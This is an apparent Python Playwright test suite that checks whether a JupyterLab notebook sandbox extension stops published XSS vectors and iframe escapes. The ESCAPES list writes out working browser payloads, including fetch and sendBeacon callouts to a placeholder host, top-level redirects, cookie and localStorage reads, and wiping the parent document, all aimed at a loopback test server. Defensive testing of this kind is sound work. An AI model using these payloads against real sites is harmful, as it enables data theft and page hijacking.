"""Published attacks through every kind of output, in a real JupyterLab: none acts in the page, and none calls out.

The page's own `alert` and its kin are made to keep a list: a vector that runs in the page's origin is on it. The
control is the same cell with `--output trusted`.
"""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import wait_until
from playwright.sync_api import Locator

from .conftest import NotebookFactory
from .lab import NotebookPage

VECTORS = Path(__file__).with_name("xss_vectors.txt")
PER_CELL = 40
"""JupyterLab shows 50 outputs of a cell."""

# What a cell does with each vector, by the kind of output. Kinds whose outputs merge take all vectors at once.
CHANNELS = {
    "text/html": "display({'text/html': vector, 'text/plain': vector}, raw=True)",
    "text/markdown": "display({'text/markdown': vector, 'text/plain': vector}, raw=True)",
    "text/latex": "display({'text/latex': vector, 'text/plain': vector}, raw=True)",
    "image/svg+xml": "display({'image/svg+xml': f'<svg>{vector}</svg>', 'text/plain': vector}, raw=True)",
    "application/json": "display({'application/json': {vector: [vector]}, 'text/plain': vector}, raw=True)",
    "pictures": "display({'image/png': vector, 'image/webp': vector, 'text/plain': vector}, raw=True,"
    " metadata={'image/png': {'alt': vector, 'width': vector}})",
    "unknown": "display({'application/vnd.jupyter.widget-view+json': {'model_id': vector, 'version_major': 2},"
    " 'text/vnd.mermaid': vector, vector: vector, 'text/plain': vector}, raw=True)",
    "streams": "print(vector); print(vector, file=sys.stderr); print(f'\\x1b]8;;{vector}\\x07x\\x1b]8;;\\x07')",
}
LISTEN = """() => {
    window.fired = [];
    for (const name of ['alert', 'confirm', 'prompt']) window[name] = what => { window.fired.push(String(what)); };
}"""
# Everything in the outputs that a person could touch is touched.
TOUCH = """areas => {
    const events = ['mouseover', 'mousedown', 'click', 'focus', 'blur', 'toggle', 'input', 'dragstart'];
    for (const area of areas) for (const element of area.querySelectorAll('*')) {
        // A link to the web that a person can see, and clicks, is no attack.
        if (element.closest('.chorus-nb, a[href^="http"]') || element.tagName === 'IFRAME') continue;
        for (const name of events) element.dispatchEvent(new MouseEvent(name, {bubbles: true, cancelable: true}));
    }
}"""
# The points of the page, on a grid, where something of an output lies outside of that output's area.
OVERLAID = """areas => {
    const found = [];
    const within = (box, x, y) => x >= box.left - 1 && x <= box.right + 1 && y >= box.top - 1 && y <= box.bottom + 1;
    for (let x = 5; x < innerWidth; x += 25) for (let y = 5; y < innerHeight; y += 12) {
        const area = areas.find(area => area.contains(document.elementFromPoint(x, y)));
        if (area && !within(area.getBoundingClientRect(), x, y)) found.push([x, y]);
    }
    return found;
}"""


UNBOX = "for (const box of document.querySelectorAll('[style*=contain]')) box.style.contain = 'none'"


def read_vectors(host: str) -> list[str]:
    """Return the published vectors, with the address of a server of ours in them."""
    lines = VECTORS.read_text().splitlines()
    return [line.replace("{host}", host) for line in lines if line and not line.startswith("# ")]


@pytest.fixture
def calls() -> Iterator[tuple[str, list[str]]]:
    """A web server on the loopback, as ``host:port``, and the requests it got."""
    got: list[str] = []

    class Listener(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            got.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            self.wfile.write(b"alert('loaded')")

        def log_message(self, *_: Any) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listener) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"127.0.0.1:{server.server_address[1]}", got
        server.shutdown()


def attack_cells(vectors: list[str], kinds: list[str], options: str = "") -> list[str]:
    """Return cells that put every vector through every kind of output."""
    head = f"%%sandbox {options}\nimport sys\nfrom IPython.display import HTML, display\n"
    parts = [vectors[start : start + PER_CELL] for start in range(0, len(vectors), PER_CELL)]
    return [f"{head}for vector in {part!r}:\n    {CHANNELS[kind]}" for kind in kinds for part in parts]


def areas(page: NotebookPage) -> Locator:
    """Return the output areas of all cells."""
    return page.page.locator(".jp-Notebook .jp-Cell-outputArea")


def attack(page: NotebookPage) -> list[str]:
    """Run all cells, touch all there is, and return what ran in the page."""
    dialogs: list[str] = []
    page.page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.page.evaluate(LISTEN)
    page.execute_all()
    page.page.wait_for_timeout(1500)
    areas(page).evaluate_all(TOUCH)
    page.page.wait_for_timeout(500)
    fired: list[str] = page.page.evaluate("window.fired")
    # Lab itself makes paths in text to links, and asks before it opens one in the debugger.
    while page.page.locator(".jp-Dialog").count():
        page.page.keyboard.press("Escape")
        page.page.wait_for_timeout(100)
    return fired + dialogs


def test_there_are_a_hundred_vectors_and_more() -> None:
    assert len(set(read_vectors("x"))) >= 100


@pytest.mark.parametrize(
    "kinds",
    [["text/html"], [kind for kind in CHANNELS if kind != "text/html"]],
    ids=["html", "other"],
)
def test_no_published_vector_acts_in_the_page(
    cells: NotebookFactory, calls: tuple[str, list[str]], kinds: list[str]
) -> None:
    host, got = calls
    page = cells(attack_cells(read_vectors(host), kinds))
    address = page.page.url
    assert attack(page) == []
    assert areas(page).evaluate_all(OVERLAID) == []
    if kinds == ["text/html"]:
        page.page.evaluate(UNBOX)
        assert areas(page).evaluate_all(OVERLAID) != [], "it is the box that keeps them in their place"
    assert page.page.url == address, "nothing has taken the page elsewhere"
    assert got == [], "nothing has called out"


def test_the_same_vectors_do_act_where_output_is_trusted(
    notebook: NotebookFactory, calls: tuple[str, list[str]]
) -> None:
    """Without this the tests above could pass because they look in the wrong place."""
    host, got = calls
    vectors = [vector for vector in read_vectors(host) if "top" not in vector and "refresh" not in vector]
    page = notebook(["%load_ext chorus_nb", *attack_cells(vectors[::4], ["text/html"], "trusting --output trusted")])
    attack(page)
    page.page.wait_for_function("window.fired.length >= 5")
    wait_until(lambda: got)


# Ways out of a frame: each is tried in one of its own, by a script that may do all that a frame's script may do.
ESCAPES = [
    "location = '//{host}/location'",
    "parent.location = '//{host}/parent'",
    "top.location = '//{host}/top'",
    "open('//{host}/open')",
    "open('//{host}/open-top', '_top')",
    "open('//{host}/open-parent', '_parent')",
    "history.back(); history.go(-2)",
    "element.innerHTML = '<iframe srcdoc=\"<script>history.back(); history.go(-2)</script>\"></iframe>'",
    "fetch('//{host}/fetch')",
    "navigator.sendBeacon('//{host}/beacon', 'x')",
    "const xhr = new XMLHttpRequest(); xhr.open('GET', '//{host}/xhr'); xhr.send()",
    "new WebSocket('ws://{host}/socket')",
    "new EventSource('//{host}/events')",
    "new Image().src = '//{host}/image'",
    "import('//{host}/import.js')",
    "new Worker(URL.createObjectURL(new Blob([\"importScripts('http://{host}/worker.js')\"])))",
    "new Worker(URL.createObjectURL(new Blob([\"fetch('http://{host}/worker')\"])))",
    "element.innerHTML = '<iframe src=//{host}/frame></iframe><embed src=//{host}/embed>'",
    "element.innerHTML = '<object data=//{host}/object></object>'",
    "element.innerHTML = '<link rel=stylesheet href=//{host}/css><link rel=prefetch href=//{host}/prefetch>"
    "<link rel=preload as=image href=//{host}/preload><link rel=prerender href=//{host}/prerender>'",
    "element.innerHTML = '<video src=//{host}/video></video><audio src=//{host}/audio></audio>'",
    "element.innerHTML = '<video poster=//{host}/poster>'",
    'element.innerHTML = \'<style>@import "//{host}/import.css"; @font-face {font-family: x; src: url(//{host}/font)}'
    " p {background: url(//{host}/background); font-family: x}</style><p>x</p>'",
    "element.innerHTML = '<form id=f action=//{host}/form><input name=a value=b></form>'; f.submit()",
    "element.innerHTML = '<form id=f target=_top action=//{host}/form-top></form>'; f.submit()",
    "element.innerHTML = '<a id=a href=//{host}/link>x</a>'; a.click()",
    "element.innerHTML = '<a id=a target=_blank href=//{host}/blank>x</a>'; a.click()",
    "element.innerHTML = '<a id=a target=_top href=//{host}/link-top>x</a>'; a.click()",
    "element.innerHTML = '<a id=a href=\"data:,x\" ping=//{host}/ping download>x</a>'; a.click()",
    "document.head.innerHTML = '<meta http-equiv=refresh content=\"0;url=//{host}/refresh\">'",
    "document.write('<meta http-equiv=refresh content=\"0;url=//{host}/written\"><img src=//{host}/written-image>')",
    "element.innerHTML = `<iframe srcdoc=\"<script>location='//{host}/nested'; new Image().src='//{host}/nested-image'"
    '</script>"></iframe>`',
    "element.innerHTML = `<iframe srcdoc=\"<script>parent.parent.location='//{host}/outer'</script>\"></iframe>`",
    "location = URL.createObjectURL(new Blob(['<img src=http://{host}/blob>'], {type: 'text/html'}))",
    "location = 'data:text/html,<img src=http://{host}/data>'",
    "location = `javascript:'<img src=http://{host}/javascript>'`",
    "alert(1); parent.alert(1)",
    "top.alert(1)",
    "top.fired.push('reached')",
    "top.document.body.innerHTML = ''",
    "parent.document.body.innerHTML = ''",
    "for (const [w, h] of [[top, 5000], [parent.parent, 1e9]]) w.postMessage(h, '*')",
    "setTimeout(() => { for (const h of [-1, NaN, '5', null, {{}}, [5], 1e9]) parent.postMessage(h, '*'); }, 500)",
    "document.cookie; localStorage.x; indexedDB.open('x')",
    "element.requestFullscreen(); document.body.requestPointerLock()",
    "navigator.serviceWorker.register('//{host}/sw.js')",
    "document.domain = '127.0.0.1'",
]


TALL = next(number for number, script in enumerate(ESCAPES) if "setTimeout" in script)
"""The one that asks for all the height there is."""


def test_a_frame_has_no_way_out(cells: NotebookFactory, calls: tuple[str, list[str]]) -> None:
    host, got = calls
    scripts = [script.replace("{host}", host).replace("{{}}", "{}") for script in ESCAPES]
    head = "%%sandbox\nfrom IPython.display import Javascript, display\n"
    page = cells([f"{head}for script in {scripts!r}:\n    display(Javascript(script))"])
    address, windows = page.page.url, len(page.page.context.pages)
    assert attack(page) == []
    frames = page.output_area(0).locator("iframe")
    page.page.wait_for_function("frame => frame.offsetHeight === 10000", arg=frames.nth(TALL).element_handle())
    page.page.wait_for_timeout(2000)
    assert page.page.evaluate("window.fired") == []
    assert got == []
    assert page.page.url == address
    assert len(page.page.context.pages) == windows, "no window was opened"
    heights = frames.evaluate_all("frames => frames.map(frame => frame.offsetHeight)")
    assert len(heights) == len(scripts)
    assert sorted(height for height in heights if height > 1000) == [10000], "one asks for all there is, and gets that"
    assert areas(page).evaluate_all(OVERLAID) == []


def test_errors_and_session_names_are_only_text(cells: NotebookFactory, calls: tuple[str, list[str]]) -> None:
    host, got = calls
    vectors = read_vectors(host)
    parts = [vectors[start : start + PER_CELL] for start in range(0, len(vectors), PER_CELL)]
    refused = "for name in {part!r}:\n    try: get_ipython().run_cell_magic('sandbox', repr(name), '1')\n"
    strips = (
        "from chorus_nb.panel.figures import Meter\nfrom chorus_nb.panel.gauge import Gauge\n"
        "from chorus_nb.panel.strip import StripWidget\n"
        "for name in {part!r}:\n    gauge = Gauge(name, 1, 2**30, print); gauge.begin(name); gauge.end(name, None)\n"
        "    display(StripWidget(Meter(1, 2**30).live(name, name, 1.0), print))"
    )
    page = cells(
        [
            *(f"{refused.format(part=part)}    except BaseException: get_ipython().showtraceback()" for part in parts),
            *(strips.format(part=part[start : start + 20]) for part in parts for start in (0, 20)),
            f"%%sandbox\nkind = type({vectors[2]!r}, (Exception,), {{}})\nraise kind('\\n'.join({vectors!r}))",
        ]
    )
    assert attack(page) == []
    last = page.outputs(page.page.locator(".jp-Notebook .jp-Cell").count() - 1)
    assert last.error_names == ["ExecutionError"]
    assert all(vector.strip() in last.text for vector in vectors[:5]), "as text they are there"
    assert areas(page).locator("script, iframe, [onerror], [onload], [onmouseover], [href^=javascript]").count() == 0
    assert got == []


# Where widgets from a sandbox come to be shown, their state is one more kind of output to try the vectors on.
